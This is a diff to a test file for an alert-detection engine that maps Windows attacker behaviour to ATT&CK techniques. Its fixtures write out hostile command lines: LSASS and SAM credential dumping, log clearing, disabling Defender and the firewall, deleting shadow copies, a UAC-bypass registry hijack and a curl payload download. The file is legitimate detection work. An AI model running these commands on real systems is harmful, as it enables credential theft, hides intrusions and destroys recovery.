@@ -51,7 +51,7 @@ describe('the reference Run-key alert', () => {
     ]);
   });
 
-  it('carries each rule’s title, weight and explanation', () => {
+  it('carries each rule’s title, weight, explanation, and the techniques and behaviours it shows', () => {
     const [first] = evaluateHeuristics(runKeyAlert());
     expect(first).toEqual({
       id: 'masquerading-name',
@@ -59,7 +59,17 @@ describe('the reference Run-key alert', () => {
       weight: 20,
       explanation: HEURISTICS[0].explanation,
       evidence: 'WindowsSecurityUpdate → C:\\ProgramData\\Microsoft\\Drivers\\security.dll',
+      techniques: ['T1036.005'],
+      behaviours: ['evasion'],
     });
+  });
+
+  it('names the technique each hit shows: the Run key is T1547.001, hidden PowerShell T1059.001 and T1564.003', () => {
+    const byId = new Map(evaluateHeuristics(runKeyAlert()).map((h) => [h.id, h.techniques]));
+    expect(byId.get('autostart-by-nonsystem-process')).toEqual(['T1547.001']);
+    expect(byId.get('lolbin-proxy-execution')).toEqual(['T1218.011']);
+    expect(byId.get('powershell-evasion')).toEqual(['T1059.001', 'T1564.003']);
+    expect(byId.get('unusual-path')).toEqual([]);
   });
 
   it('fires nothing on a benign DNS query', () => {
@@ -462,10 +472,19 @@ describe('public-connection-non-browser', () => {
     expect(evidenceOf('public-connection-non-browser', alert)).toBe('powershell.exe → 194.165.16[.]89:4444');
   });
 
+  it('fires on any port, naming web ports T1071.001 and the others T1571 (a beacon on 3389 counts as much as on 443)', () => {
+    const on = (dstPort: number) =>
+      evaluateHeuristics(procsrvConnectAlert({ network: { dstIp: '162.125.6.18', dstPort } })).find(
+        (h) => h.id === 'public-connection-non-browser',
+      );
+    expect(on(443)).toMatchObject({ evidence: 'procsrv.exe → 162.125.6[.]18:443', techniques: ['T1071.001'] });
+    expect(on(3389)).toMatchObject({ evidence: 'procsrv.exe → 162.125.6[.]18:3389', techniques: ['T1571'] });
+    expect(on(3389)?.behaviours).toEqual(['outbound']);
+  });
+
   it.each([
     ['a browser', { process: { image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' } }],
     ['a private address', { network: { dstIp: '10.0.0.8', dstPort: 443 } }],
-    ['another port', { network: { dstIp: '162.125.6.18', dstPort: 3389 } }],
     ['a Windows service', { process: { image: 'C:\\Windows\\System32\\svchost.exe' } }],
     ['inbound traffic', { network: { direction: 'inbound' as const, dstIp: '162.125.6.18', dstPort: 443 } }],
   ])('does not fire on %s', (_what, overrides: Partial<Alert>) => {
@@ -490,11 +509,184 @@ describe('the rule table', () => {
 
   it('runs a caller’s own rules, one line of evidence each', () => {
     const rules: HeuristicRule[] = [
-      { id: 'always', title: 'Always', weight: 1, explanation: 'Always fires.', test: () => 'a\n  b' },
-      { id: 'never', title: 'Never', weight: 1, explanation: 'Never fires.', test: () => undefined },
+      {
+        id: 'always',
+        title: 'Always',
+        weight: 1,
+        explanation: 'Always fires.',
+        techniques: ['T1059'],
+        behaviours: ['execution'],
+        test: () => 'a\n  b',
+      },
+      {
+        id: 'never',
+        title: 'Never',
+        weight: 1,
+        explanation: 'Never fires.',
+        techniques: [],
+        behaviours: [],
+        test: () => undefined,
+      },
     ];
     expect(evaluateHeuristics(makeAlert(), rules)).toEqual([
-      { id: 'always', title: 'Always', weight: 1, explanation: 'Always fires.', evidence: 'a b' },
+      {
+        id: 'always',
+        title: 'Always',
+        weight: 1,
+        explanation: 'Always fires.',
+        evidence: 'a b',
+        techniques: ['T1059'],
+        behaviours: ['execution'],
+      },
     ]);
+  });
+});
+
+describe('the behaviours the first version missed', () => {
+  const S32 = 'C:\\Windows\\System32\\';
+  const hit = (id: string, alert: Alert) => evaluateHeuristics(alert).find((h) => h.id === id);
+  const proc = (image: string, commandLine: string, parent?: string): Alert =>
+    makeAlert({ process: { image, commandLine, ...(parent !== undefined ? { parent: { image: parent } } : {}) } });
+
+  it.each([
+    [
+      'comsvcs MiniDump',
+      proc(`${S32}rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\t\\d.bin full'),
+      'T1003.001',
+    ],
+    [
+      'procdump of lsass',
+      proc('C:\\Tools\\procdump64.exe', 'procdump64.exe -accepteula -ma lsass.exe out.dmp'),
+      'T1003.001',
+    ],
+    ['reg save of the SAM hive', proc(`${S32}reg.exe`, 'reg save HKLM\\SAM C:\\Users\\Public\\s'), 'T1003.002'],
+    [
+      'esentutl /vss of the SAM hive',
+      proc(`${S32}esentutl.exe`, 'esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\p\\sam.save'),
+      'T1003.002',
+    ],
+    ['ntdsutil IFM', proc(`${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'), 'T1003.003'],
+  ])('credential-dumping fires on %s', (_what, alert, technique) => {
+    expect(hit('credential-dumping', alert)).toMatchObject({
+      techniques: [technique],
+      behaviours: ['credential-theft'],
+    });
+  });
+
+  it('credential-dumping fires on Task Manager writing lsass.DMP, not on an ordinary crash dump', () => {
+    const dump = (path: string) =>
+      makeAlert({ eventType: 'file_create', process: { image: `${S32}Taskmgr.exe` }, file: { path } });
+    expect(hit('credential-dumping', dump('C:\\Users\\a\\AppData\\Local\\Temp\\lsass.DMP'))?.techniques).toEqual([
+      'T1003.001',
+    ]);
+    expect(hit('credential-dumping', dump('C:\\Users\\a\\AppData\\Local\\Temp\\notepad.DMP'))).toBeUndefined();
+  });
+
+  it('uac-bypass fires on the mscfile open-command hijack and on eventvwr starting something other than its console', () => {
+    const hijack = makeAlert({
+      eventType: 'registry_value_set',
+      process: { image: `${S32}reg.exe` },
+      registry: { key: 'HKU\\S-1-5-21-1-2-3-1104_Classes\\mscfile\\shell\\open\\command', valueData: 'C:\\x.exe' },
+    });
+    expect(hit('uac-bypass', hijack)?.techniques).toEqual(['T1548.002']);
+    expect(hit('uac-bypass', proc('C:\\Users\\Public\\x.exe', 'x.exe', `${S32}eventvwr.exe`))).toBeDefined();
+    expect(hit('uac-bypass', proc(`${S32}mmc.exe`, 'mmc.exe eventvwr.msc', `${S32}eventvwr.exe`))).toBeUndefined();
+  });
+
+  it('log-clearing fires on wevtutil cl and on the Security log-cleared event, not on a log query', () => {
+    expect(hit('log-clearing', proc(`${S32}wevtutil.exe`, 'wevtutil cl Security'))?.techniques).toEqual(['T1685.005']);
+    expect(
+      hit('log-clearing', makeAlert({ eventType: 'log_cleared', eventName: 'The audit log was cleared' })),
+    ).toBeDefined();
+    expect(hit('log-clearing', proc(`${S32}wevtutil.exe`, 'wevtutil qe System /c:5'))).toBeUndefined();
+  });
+
+  it('defence-impairment fires on Defender switched off, an exclusion, the firewall off, a stopped security service', () => {
+    expect(
+      hit('defence-impairment', proc(POWERSHELL, 'Set-MpPreference -DisableRealtimeMonitoring $true'))?.techniques,
+    ).toEqual(['T1685']);
+    expect(
+      hit('defence-impairment', proc(POWERSHELL, 'Add-MpPreference -ExclusionPath C:\\ProgramData\\x'))?.techniques,
+    ).toEqual(['T1564.012']);
+    expect(
+      hit('defence-impairment', proc(`${S32}netsh.exe`, 'netsh advfirewall set allprofiles state off'))?.techniques,
+    ).toEqual(['T1686.003']);
+    expect(hit('defence-impairment', proc(`${S32}sc.exe`, 'sc stop WinDefend'))).toBeDefined();
+    expect(hit('defence-impairment', proc(`${S32}sc.exe`, 'sc query WinDefend'))).toBeUndefined();
+  });
+
+  it('inhibit-recovery fires on shadow copies deleted and recovery disabled, not on listing them', () => {
+    expect(
+      hit('inhibit-recovery', proc(`${S32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet')),
+    ).toMatchObject({
+      techniques: ['T1490'],
+      behaviours: ['impact'],
+    });
+    expect(
+      hit('inhibit-recovery', proc(`${S32}bcdedit.exe`, 'bcdedit /set {default} recoveryenabled no')),
+    ).toBeDefined();
+    expect(hit('inhibit-recovery', proc(`${S32}vssadmin.exe`, 'vssadmin.exe list shadows'))).toBeUndefined();
+  });
+
+  it('remote-service fires on PsExec’s service, Impacket’s random one and a remote sc create, not on a Windows binary', () => {
+    const service = (name: string, path: string) =>
+      makeAlert({ eventType: 'service_install', service: { name, path } });
+    expect(hit('remote-service', service('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'))?.techniques).toEqual([
+      'T1569.002',
+      'T1021.002',
+    ]);
+    expect(hit('remote-service', service('KxBqTeVW', '%systemroot%\\KxBqTeVW.exe'))).toBeDefined();
+    expect(hit('remote-service', service('Spooler', 'C:\\Windows\\explorer.exe'))).toBeUndefined();
+    expect(
+      hit('remote-service', proc(`${S32}sc.exe`, 'sc \\\\SRV-SQL-02 create upd binPath= c:\\x.exe')),
+    ).toBeDefined();
+  });
+
+  it('browser-spawns-shell fires on a browser starting a shell directly', () => {
+    const chrome = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
+    expect(hit('browser-spawns-shell', proc(`${S32}cmd.exe`, 'cmd.exe /c whoami', chrome))).toMatchObject({
+      techniques: ['T1189', 'T1059.003'],
+      behaviours: ['browser-shell', 'execution'],
+    });
+  });
+
+  it('office-spawns-shell also fires through a second shell the EDR reports as grandparent', () => {
+    const alert = makeAlert({
+      process: {
+        image: POWERSHELL,
+        commandLine: 'powershell -c x',
+        parent: { image: `${S32}cmd.exe` },
+        grandparent: { image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' },
+      },
+    });
+    expect(hit('office-spawns-shell', alert)).toMatchObject({
+      evidence: 'WINWORD.EXE → powershell.exe',
+      techniques: ['T1204.002', 'T1059.001'],
+    });
+  });
+
+  it('tool-download fires on curl saving a file from a URL, not on curl reading an API', () => {
+    expect(
+      hit('tool-download', proc(`${S32}curl.exe`, 'curl.exe -o C:\\Users\\Public\\a.exe http://1.2.3.4/a.exe')),
+    ).toBeDefined();
+    expect(hit('tool-download', proc(`${S32}curl.exe`, 'curl.exe https://api.example.com/status'))).toBeUndefined();
+  });
+
+  it('names each autostart location’s own technique', () => {
+    const write = (key: string) =>
+      hit(
+        'autostart-by-nonsystem-process',
+        makeAlert({
+          eventType: 'registry_value_set',
+          process: { image: `${S32}reg.exe` },
+          registry: { key, valueData: 'x' },
+        }),
+      )?.techniques;
+    expect(write('HKU\\S-1-5-21-1\\Environment\\UserInitMprLogonScript')).toEqual(['T1037.001']);
+    expect(write('HKLM\\System\\CurrentControlSet\\Services\\evil\\ImagePath')).toEqual(['T1543.003']);
+    expect(write('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit')).toEqual(['T1547.004']);
+    expect(
+      hit('autostart-by-nonsystem-process', proc(`${S32}schtasks.exe`, 'schtasks /create /tn a /tr b'))?.techniques,
+    ).toEqual(['T1053.005']);
   });
 });
